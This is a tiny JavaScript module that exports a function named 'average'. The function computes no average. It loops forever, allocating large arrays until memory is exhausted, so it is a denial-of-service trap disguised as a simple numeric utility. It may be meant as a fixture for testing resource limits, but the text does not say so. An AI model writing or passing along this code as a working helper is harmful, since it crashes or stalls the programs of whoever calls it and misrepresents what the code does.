exports.average = (numbers) => {
  const kept = [];
  for (;;) kept.push(new Array(100000).fill(numbers));
};
